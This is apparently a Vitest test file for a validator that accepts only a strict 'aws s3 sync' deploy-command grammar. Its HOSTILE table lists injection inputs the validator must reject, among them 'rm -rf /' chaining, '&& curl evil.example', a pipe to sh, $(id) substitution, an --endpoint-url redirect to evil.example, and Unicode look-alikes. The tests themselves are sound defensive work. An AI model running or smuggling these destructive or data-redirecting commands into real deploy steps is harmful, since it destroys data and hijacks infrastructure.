import { describe, expect, it } from 'vitest';
import {
  buildManifestKeyFor,
  buildPrefixFor,
  parseSyncCommand,
} from '../../../agent/src/deploy/sync-command.js';
import { isFrontendOpsError } from '../../../agent/src/errors.js';

const SRC = 's3://sophia-dashboard-build-artifacts-1a2b/builds/{commit}/site/';
const DST = 's3://sophia-dashboard-hosting-prod-3c4d/';
const GOOD = `aws s3 sync ${SRC} ${DST} --delete`;
const SHA = '0123456789abcdef0123456789abcdef01234567';

function rejection(text: string): { token: string; message: string } {
  try {
    parseSyncCommand(text);
  } catch (error) {
    if (isFrontendOpsError(error, 'SYNC_COMMAND_REJECTED')) {
      return { token: String(error.data?.token), message: error.message };
    }
    throw error;
  }
  throw new Error(`accepted: ${text}`);
}

describe('parseSyncCommand accepts the grammar', () => {
  it('parses the stack output as the hosting stack exports it', () => {
    expect(parseSyncCommand(GOOD)).toEqual({
      source: { bucket: 'sophia-dashboard-build-artifacts-1a2b', prefix: 'builds/{commit}/site/' },
      destination: { bucket: 'sophia-dashboard-hosting-prod-3c4d', prefix: '' },
      delete: true,
    });
  });

  it('makes --delete optional and tolerates surrounding and repeated spaces', () => {
    expect(parseSyncCommand(`  aws  s3 sync ${SRC}   ${DST}  `).delete).toBe(false);
  });

  it('canonicalises prefixes without a trailing slash and a destination prefix', () => {
    const sync = parseSyncCommand('aws s3 sync s3://artifacts-1/b/{commit}/site s3://hosting-1/live/v2');
    expect(sync.source.prefix).toBe('b/{commit}/site/');
    expect(sync.destination).toEqual({ bucket: 'hosting-1', prefix: 'live/v2/' });
  });

  it('builds the per-commit prefix and the manifest key beside the site folder', () => {
    const sync = parseSyncCommand(GOOD);
    expect(buildPrefixFor(sync, SHA)).toBe(`builds/${SHA}/site/`);
    expect(buildManifestKeyFor(sync, SHA)).toBe(`builds/${SHA}/build.json`);
    const flat = parseSyncCommand('aws s3 sync s3://artifacts-1/builds/{commit}/ s3://hosting-1/');
    expect(buildManifestKeyFor(flat, SHA)).toBe(`builds/${SHA}.build.json`);
  });

  it('refuses to build a prefix for anything but a full sha', () => {
    const sync = parseSyncCommand(GOOD);
    for (const bad of ['abc1234', SHA.toUpperCase(), `${SHA}0`, '../../etc', '']) {
      expect(() => buildPrefixFor(sync, bad)).toThrow(/full 40-hex sha/);
    }
  });
});

// Every row: the hostile text, and the token the error must name.
const HOSTILE: Array<[string, string, string]> = [
  ['command chaining with ;', `${GOOD}; rm -rf /`, '--delete;'],
  ['chaining with && as its own token', `${GOOD} && curl evil.example`, '&&'],
  ['a pipe', `${GOOD} | sh`, '|'],
  ['output redirection', `${GOOD} > /etc/passwd`, '>'],
  [
    'command substitution in a prefix',
    'aws s3 sync s3://artifacts-1/$(id)/{commit}/ s3://hosting-1/',
    's3://artifacts-1/$(id)/{commit}/',
  ],
  [
    'backticks in a prefix',
    'aws s3 sync s3://artifacts-1/`id`/{commit}/ s3://hosting-1/',
    's3://artifacts-1/`id`/{commit}/',
  ],
  [
    'a shell variable',
    'aws s3 sync s3://artifacts-1/$HOME/{commit}/ s3://hosting-1/',
    's3://artifacts-1/$HOME/{commit}/',
  ],
  ['--exclude', `aws s3 sync ${SRC} ${DST} --exclude *`, '--exclude'],
  ['--exclude before --delete', `aws s3 sync ${SRC} ${DST} --exclude '*' --delete`, '--exclude'],
  ['--acl public-read', `aws s3 sync ${SRC} ${DST} --acl public-read`, '--acl'],
  [
    '--endpoint-url redirecting the copy',
    `aws s3 sync ${SRC} ${DST} --endpoint-url http://evil.example`,
    '--endpoint-url',
  ],
  ['--delete twice', `${GOOD} --delete`, '--delete'],
  ['--delete=true', `aws s3 sync ${SRC} ${DST} --delete=true`, '--delete=true'],
  ['an http source', `aws s3 sync http://evil.example/{commit}/ ${DST}`, 'http://evil.example/{commit}/'],
  [
    'an https virtual-hosted destination',
    `aws s3 sync ${SRC} https://hosting-1.s3.amazonaws.com/`,
    'https://hosting-1.s3.amazonaws.com/',
  ],
  ['a local path destination', `aws s3 sync ${SRC} ./dist`, './dist'],
  ['file:// source', 'aws s3 sync file:///etc/{commit}/ s3://hosting-1/', 'file:///etc/{commit}/'],
  [
    '.. in the source prefix',
    'aws s3 sync s3://artifacts-1/builds/{commit}/../../ s3://hosting-1/',
    's3://artifacts-1/builds/{commit}/../../',
  ],
  ['.. in the destination prefix', `aws s3 sync ${SRC} s3://hosting-1/../other/`, 's3://hosting-1/../other/'],
  [
    'an empty segment',
    'aws s3 sync s3://artifacts-1//builds/{commit}/ s3://hosting-1/',
    's3://artifacts-1//builds/{commit}/',
  ],
  [
    'the placeholder in the destination',
    `aws s3 sync ${SRC} s3://hosting-1/{commit}/`,
    's3://hosting-1/{commit}/',
  ],
  [
    'no placeholder in the source',
    'aws s3 sync s3://artifacts-1/builds/latest/ s3://hosting-1/',
    's3://artifacts-1/builds/latest/',
  ],
  [
    'the placeholder twice',
    'aws s3 sync s3://artifacts-1/{commit}/{commit}/ s3://hosting-1/',
    's3://artifacts-1/{commit}/{commit}/',
  ],
  [
    'another placeholder',
    'aws s3 sync s3://artifacts-1/{branch}/{commit}/ s3://hosting-1/',
    's3://artifacts-1/{branch}/{commit}/',
  ],
  [
    'a placeholder glued to text',
    'aws s3 sync s3://artifacts-1/build-{commit}/ s3://hosting-1/',
    's3://artifacts-1/build-{commit}/',
  ],
  [
    'an upper-case bucket',
    'aws s3 sync s3://Artifacts/{commit}/ s3://hosting-1/',
    's3://Artifacts/{commit}/',
  ],
  ['a two-letter bucket', 'aws s3 sync s3://ab/{commit}/ s3://hosting-1/', 's3://ab/{commit}/'],
  ['an underscore in a bucket', `aws s3 sync ${SRC} s3://hosting_prod/`, 's3://hosting_prod/'],
  ['an IP-address bucket', `aws s3 sync ${SRC} s3://192.168.10.1/`, 's3://192.168.10.1/'],
  ['an xn-- bucket', `aws s3 sync ${SRC} s3://xn--hosting/`, 's3://xn--hosting/'],
  ['a bucket with ..', `aws s3 sync ${SRC} s3://hosting..prod/`, 's3://hosting..prod/'],
  ['no bucket', `aws s3 sync ${SRC} s3:///`, 's3:///'],
  ['s3:/ with one slash', `aws s3 sync ${SRC} s3:/hosting-1/`, 's3:/hosting-1/'],
  ['a query string', `aws s3 sync ${SRC} s3://hosting-1/?versionId=1`, 's3://hosting-1/?versionId=1'],
  [
    'a glob in a prefix',
    'aws s3 sync s3://artifacts-1/*/{commit}/ s3://hosting-1/',
    's3://artifacts-1/*/{commit}/',
  ],
  [
    'the same bucket on both sides',
    'aws s3 sync s3://artifacts-1/builds/{commit}/site/ s3://artifacts-1/',
    's3://artifacts-1/',
  ],
  ['Cyrillic а in aws (look-alike)', `\u0430ws s3 sync ${SRC} ${DST}`, '\u0430ws'],
  [
    'Cyrillic ѕ in s3:// (look-alike)',
    `aws s3 sync \u04553://artifacts-1/{commit}/ ${DST}`,
    '\u04553://artifacts-1/{commit}/',
  ],
  [
    'a fullwidth slash in a prefix',
    `aws s3 sync s3://artifacts-1/builds\uff0f{commit}/ ${DST}`,
    's3://artifacts-1/builds\uff0f{commit}/',
  ],
  ['a no-break space between tokens', `aws s3 sync\u00a0${SRC} ${DST}`, `sync\u00a0${SRC}`],
  ['a newline then a second command', `${GOOD}\nrm -rf /`, '--delete\nrm'],
  ['a tab separator', `aws s3 sync\t${SRC} ${DST}`, `sync\t${SRC}`],
  ['a NUL byte', `aws s3 sync ${SRC} ${DST}\u0000`, `${DST}\u0000`],
  ['quoted arguments', `aws s3 sync "${SRC}" "${DST}"`, `"${SRC}"`],
  ['aws s3 cp instead of sync', `aws s3 cp ${SRC} ${DST}`, 'cp'],
  ['upper-case AWS', `AWS s3 sync ${SRC} ${DST}`, 'AWS'],
  ['sudo in front', `sudo aws s3 sync ${SRC} ${DST}`, 'sudo'],
  ['a missing destination', `aws s3 sync ${SRC}`, ''],
  ['an extra token after --delete', `${GOOD} now`, 'now'],
  ['an empty string', '', ''],
  ['--profile', `aws s3 sync ${SRC} ${DST} --profile prod`, '--profile'],
];

describe('parseSyncCommand refuses everything outside the grammar', () => {
  it('has at least 25 hostile inputs', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(25);
  });

  it.each(HOSTILE)('rejects %s, naming the token', (_name, text, token) => {
    const { token: named, message } = rejection(text);
    const shown = token.length > 80 ? `${token.slice(0, 77)}...` : token;
    expect(named).toBe(shown);
    expect(message).toContain('syncCommand rejected');
  });

  it('rejects very long input without scanning it as a command', () => {
    const long = `aws s3 sync s3://artifacts-1/${'a/'.repeat(3000)}{commit}/ ${DST}`;
    const { message, token } = rejection(long);
    expect(message).toMatch(/characters long \(max 2048\)/);
    expect(token.length).toBeLessThanOrEqual(80);
  });

  it('rejects an over-long prefix inside the length limit', () => {
    const { message } = rejection(`aws s3 sync s3://artifacts-1/${'abcdefgh/'.repeat(60)}{commit}/ ${DST}`);
    expect(message).toMatch(/prefix is too long/);
  });
});
